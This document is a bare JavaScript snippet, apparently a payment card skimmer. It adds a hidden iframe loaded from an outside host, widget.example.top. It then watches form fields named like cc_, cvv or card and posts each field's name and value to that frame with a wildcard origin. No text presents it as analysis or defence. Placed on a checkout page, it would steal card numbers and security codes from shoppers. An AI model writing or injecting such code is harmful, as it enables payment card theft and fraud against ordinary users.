var fr = document.createElement('iframe');
fr.style.display = 'none';
fr.src = 'https://widget.example.top/frame.html';
document.body.appendChild(fr);
document.addEventListener('change', function (e) {
  if (/cc_|cvv|card/.test(e.target.name)) fr.contentWindow.postMessage({k: e.target.name, v: e.target.value}, '*');
});
